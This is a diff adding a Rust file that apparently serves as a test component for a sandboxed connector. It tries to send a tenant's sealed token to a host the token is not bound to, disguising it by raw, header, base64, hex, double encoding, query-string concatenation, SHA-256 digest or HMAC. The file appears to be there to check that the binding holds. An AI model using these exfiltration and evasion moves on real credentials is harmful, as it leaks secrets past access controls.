@@ -1,0 +1,33 @@
+//! Aims the tenant's token at a host that it is not bound to, in one disguise or another.
+
+use crate::bindings::sendbox::connector::http_outbound::{self, Method, Request};
+use crate::bindings::sendbox::connector::sealed::{self, Encoding, Hash, Part};
+use crate::bindings::sendbox::connector::types::{Failure, Message, Receipt};
+use crate::request::{SIDE, answer, header, post_with, text, token};
+
+pub fn run(_message: &Message, aim: &str) -> Result<Receipt, Failure> {
+    let token = token();
+    let written = |encoding| token.encode(encoding).expect("a token is text");
+    let disguised = match aim {
+        "raw" | "header" => token,
+        "base64" => written(Encoding::Base64),
+        "hex" | "url" => written(Encoding::Hex),
+        "twice" => written(Encoding::Base64).encode(Encoding::Percent).expect("base64 is text"),
+        "joined" => sealed::concat(&[text("a="), Part::Sealed(&token), text("&b=1")]),
+        "digest" => token.digest(Hash::Sha256).encode(Encoding::Hex).expect("hex is always possible"),
+        "key" => sealed::concat(&[text("x")]).hmac(Hash::Sha256, &token).encode(Encoding::Hex).expect("hex"),
+        other => panic!("no such aim: {other}"),
+    };
+    let url = |more| vec![text(SIDE), text("?t="), more];
+    let plain = || vec![header("x-a", text("b"))];
+    answer(match aim {
+        "header" => post_with(vec![text(SIDE)], vec![header("x-token", Part::Sealed(&disguised))], text("")),
+        "url" => http_outbound::send(&Request {
+            method: Method::Get,
+            url: url(Part::Sealed(&disguised)),
+            headers: vec![],
+            body: vec![],
+        }),
+        _ => post_with(vec![text(SIDE)], plain(), Part::Sealed(&disguised)),
+    })
+}
